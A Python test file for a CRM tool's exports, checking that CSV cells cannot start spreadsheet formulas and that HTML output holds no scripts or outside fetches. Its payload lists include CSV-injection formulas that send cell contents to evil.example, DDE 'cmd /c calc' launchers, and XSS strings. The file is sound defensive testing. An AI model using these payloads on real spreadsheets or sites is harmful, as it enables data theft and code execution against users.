"""An export can be opened in a spreadsheet or a browser and comes back to the exact value."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st
from tests.torture.conftest import SEED, count
from tests.torture.corpus import CASES
from tests.torture.furnish import again, environment
from tests.torture.hostile import plant

from tinycrm.domain.cells_safe import mark, unmark
from tinycrm.formats.csvfile import csv_line

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.torture.forge import Forge

# What a spreadsheet takes for the beginning of a formula (OWASP, CSV injection; full-width forms as in Excel of Japan).
_STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example?x="&A1;"click")',
    "=cmd|'/c calc'!A1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/c calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@=1+1",
    "==1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'a",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "=1+1;=1+1",
    "a;=1+1",
    "a,=1+1",
    'a",=1+1,"',
    'a";=1+1;"',
    '"=1+1"',
    "-",
    "--",
    "-1",
    "-1.5",
    "-1,5",
    "+",
    "+49 30 1234567",
    "=",
    "@home",
    "-oProxy",
    "'-1",
    "0=1",
    " =1+1",
)


# --- cells ---

_cells = st.text(
    st.sampled_from([*_STARTS, "'", '"', ";", ",", " ", "1", "a", ".", "(", "\\", "é"]), max_size=8
) | st.text(max_size=12)


@seed(SEED)
@settings(max_examples=count(10_000), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_cells, min_size=1, max_size=4))
def test_any_cell_comes_back_exactly_and_begins_no_formula(cells: list[str]) -> None:
    line = csv_line([cell.translate({0: None}) for cell in cells])
    # what a terminal must not get is escaped before: here only what a value may hold
    held = [cell for cell in cells if cell.isprintable()]
    (read,) = csv.reader(io.StringIO(csv_line(held), newline="")) if held else ([],)
    assert [unmark(cell) for cell in read] == held
    for cell in read:
        assert not cell or cell[0] not in _STARTS or re.fullmatch(r"-\d+(\.\d+)?", cell)
    assert line.endswith("\n")


@pytest.mark.parametrize("cell", FORMULAS)
def test_marking_is_undone_exactly(cell: str) -> None:
    assert unmark(mark(cell)) == cell
    assert unmark(mark(mark(cell))) == mark(cell)


# --- through the command line ---


def _texts(rng: random.Random, count: int) -> list[str]:
    """Gives texts that a field takes as they are: no controls, no white space at the ends."""
    letters = [*"=+-@＝＋－＠'\";,\\ .()1a", "é", "漢", "سلام", "\u200c", "{{x}}", "#"]
    made = [*FORMULAS]
    while len(made) < count:
        made.append("".join(rng.choice(letters) for _ in range(rng.randrange(1, 12))))
    return [text.strip() for text in made if text.strip() and not text.strip().isspace()]


def _add_people(forge: Forge, home: Path, texts: list[str]) -> None:
    lines = [
        json.dumps(["contact", "add", f"P{number}", f"--note={text}", f"--title={text}", f"--set=own={text}"])
        for number, text in enumerate(texts)
    ]
    lines += [json.dumps(["contact", "add", "--", f"{text} {number}"]) for number, text in enumerate(FORMULAS)]
    done = forge.run(["batch", "-"], environment(home), stdin="\n".join(lines).encode())
    assert done.code == 0, done


def _people(forge: Forge, env: dict[str, str]) -> dict[str, tuple[object, ...]]:
    rows = json.loads(forge.run(["export", "contacts", "-f", "json"], env).out)
    keys = ("name", "title", "note", "fields", "tags", "emails", "phones", "handles", "companies", "birthday", "source")
    return {row["uid"]: tuple(json.dumps(row[key], ensure_ascii=False) for key in keys) for row in rows}


@pytest.mark.parametrize("raw", [False, True], ids=["safe", "raw"])
def test_an_exported_csv_is_imported_to_the_exact_values(
    forge: Forge,
    furnished: Path,
    tmp_path: Path,
    rng: random.Random,
    times: Callable[[int], int],
    figures: Callable[..., None],
    raw: bool,
) -> None:
    home = again(furnished, tmp_path / "home")
    texts = _texts(rng, times(3000))
    if raw:
        # a raw file says of itself nothing: a cell that looks marked would lose its mark
        texts = [text for text in texts if not text.startswith("'")]
    _add_people(forge, home, texts)
    if raw:
        forge.run(["contact", "rm", "--yes", *_marked_names(forge, home)], environment(home))
    before = _people(forge, environment(home))
    out = home / "people-all.csv"
    words = ["export", "contacts", "--output", str(out), *(["--raw"] if raw else [])]
    assert forge.run(words, environment(home)).code == 0
    fresh = environment(home, TINYCRM_DB=str(home / "fresh" / "crm.db"))
    assert forge.run(["import", str(out), "--as", "contacts"], fresh).code == 0
    assert _people(forge, fresh) == before
    # the same file into the database that it came from changes nothing
    done = forge.run(["import", str(out), "--as", "contacts", "--update", "-f", "json"], environment(home))
    assert done.code == 0, done
    assert _people(forge, environment(home)) == before
    if not raw:
        figures(rule=11, what="cells exported and imported", count=len(texts) * 3, found="0 differ")


def _marked_names(forge: Forge, home: Path) -> list[str]:
    rows = json.loads(forge.run(["contact", "list", "-f", "json"], environment(home)).out)
    return [str(row["id"]) for row in rows if str(row["name"]).startswith("'")]


def test_every_noun_exports_marked_cells_and_comes_back(
    forge: Forge, furnished: Path, tmp_path: Path, rng: random.Random
) -> None:
    home = again(furnished, tmp_path / "home")
    plant(home / "data" / "crm.db", [text.strip() for text in FORMULAS if not text.startswith("a;")], rng)
    env = environment(home)
    for noun in ("contact", "company", "deal", "task", "interaction"):
        out = forge.run(["export", noun, "-f", "csv"], env).out.decode()
        for row in csv.reader(io.StringIO(out, newline="")):
            for cell in row:
                assert not cell or cell[0] not in _STARTS or re.fullmatch(r"-\d+(\.\d+)?", cell), (noun, cell)


@pytest.mark.parametrize("words", [("contact", "list"), ("export", "contacts"), ("deal", "list"), ("search", "sum")])
def test_lists_as_csv_are_marked_as_exports_are(
    forge: Forge, furnished: Path, tmp_path: Path, words: tuple[str, ...]
) -> None:
    home = again(furnished, tmp_path / "home")
    plant(home / "data" / "crm.db", ("@SUM(1+1)*cmd|'/c calc'!A1",), random.Random(1))
    out = forge.run([*words, "-f", "csv"], environment(home)).out.decode()
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) > 1 or words[0] == "search"
    assert not [cell for row in rows for cell in row if cell[:1] == "@"]


# --- a real spreadsheet ---

_OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _formulas(path: Path, folder: Path, separators: str) -> list[str]:
    """Gives the formulas that LibreOffice finds in a file."""
    shutil.rmtree(folder / "out", ignore_errors=True)
    done = subprocess.run(
        [
            str(_OFFICE),
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            "fods",
            # separators, quote, UTF-8, first line, no column formats, language, quoted is not text, numbers are found
            f"--infilter=CSV:{separators},34,76,1,,0,false,true,false,false,false,-1,true",
            "--outdir",
            str(folder / "out"),
            str(path),
        ],
        capture_output=True,
        text=True,
        check=False,
        timeout=180,
        env={"PATH": "/usr/bin:/bin", "HOME": str(folder)},
    )
    made = folder / "out" / f"{path.stem}.fods"
    assert made.exists(), done
    return re.findall(r'table:formula="([^"]*)"', made.read_text(encoding="utf-8"))


@pytest.mark.skipif(_OFFICE is None, reason="LibreOffice is not installed: apt install libreoffice-calc")
def test_libreoffice_finds_no_formula_in_an_export_full_of_them(
    forge: Forge, furnished: Path, tmp_path: Path, rng: random.Random, figures: Callable[..., None]
) -> None:
    home = again(furnished, tmp_path / "home")
    _add_people(forge, home, _texts(rng, 300))
    env = environment(home)
    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
    for path, more in ((raw, ("--raw",)), (safe, ())):
        assert forge.run(["export", "contacts", "--output", str(path), *more], env).code == 0
    comma, semicolon_and_tab = "44", "44/59/9"
    # as they are, the cells are formulas: the test could fail
    assert len(_formulas(raw, tmp_path, comma)) > 20
    assert _formulas(safe, tmp_path, comma) == []
    assert _formulas(safe, tmp_path, semicolon_and_tab) == []
    listed = tmp_path / "listed.csv"
    listed.write_bytes(forge.run(["contact", "list", "-f", "csv", "--columns", "name,title,note,tags"], env).out)
    assert _formulas(listed, tmp_path, comma) == []
    count = len(list(csv.reader(safe.open(encoding="utf-8", newline=""))))
    figures(rule=11, what="rows of formulas opened in LibreOffice", count=count, found="0 formulas")


# --- HTML ---

_VOID = {"meta", "br", "hr", "col"}


class _Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.styles = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in _VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, tag
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] == ["style"]:
            self.styles += data


_HTML: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><img src=http://evil.example/x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!-- --!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example>",
    "@import url(http://evil.example);",
    "<\x00script>",
    "＜script＞alert(1)",
    "<SCRIPT\x0bSRC=//evil.example>",
)

# attributes of charts: places, sizes, and what screen readers need
_DRAWN = frozenset(
    (
        "aria-hidden", "aria-labelledby", "cx", "cy", "d", "direction", "height", "id", "preserveaspectratio", "r",
        "role",
        "rx", "text-anchor", "vector-effect", "viewbox", "width", "x", "x1", "x2", "y", "y1", "y2",
    )
)  # fmt: skip


def test_html_runs_nothing_and_fetches_nothing(
    forge: Forge,
    furnished: Path,
    tmp_path: Path,
    rng: random.Random,
    times: Callable[[int], int],
    figures: Callable[..., None],
) -> None:
    pages = 0
    chosen = rng.sample(_HTML, max(4, times(len(_HTML))))
    for text in chosen:
        home = again(furnished, tmp_path / "home")
        plant(home / "data" / "crm.db", (text.replace("\x00", ""),), random.Random(1))
        for case in CASES:
            if case.writes or "-f" in case.words:
                continue
            outcome = forge.run([*case.at(home), "-f", "html"], environment(home))
            if outcome.code not in (0, 1) or not outcome.out.lstrip().lower().startswith(b"<!doctype"):
                continue
            pages += 1
            page = _Page()
            page.feed(outcome.out.decode())
            page.close()
            assert page.open == [], (case, text)
            allowed = {"html", "head", "meta", "title", "style", "body", "main", "section", "article", "header"}
            allowed |= {"h1", "h2", "h3", "p", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "dl"}
            allowed |= {"dt", "dd", "pre", "ul", "li", "br", "div", "span", "small", "strong", "em", "colgroup", "col"}
            # what charts are drawn with; nothing of it runs or fetches
            allowed |= {"svg", "desc", "circle", "line", "path", "rect", "text", "figure", "figcaption"}
            allowed |= {"details", "summary", "b", "i", "bdi"}
            assert {tag for tag, _ in page.elements} <= allowed, (case, text)
            for tag, attributes in page.elements:
                for name, value in attributes.items():
                    assert name in (
                        "lang",
                        "dir",
                        "charset",
                        "name",
                        "content",
                        "http-equiv",
                        "class",
                        "scope",
                        "colspan",
                        *_DRAWN,
                    ), (tag, name)
                    assert not re.search("evil|alert", value or ""), (case, tag, name, value)
            assert not re.search(r"evil|url\(|@import", page.styles), case
    assert pages > 20 * len(chosen)
    figures(rule=11, what="HTML pages of hostile records", count=pages, found="0 scripts, handlers or addresses")
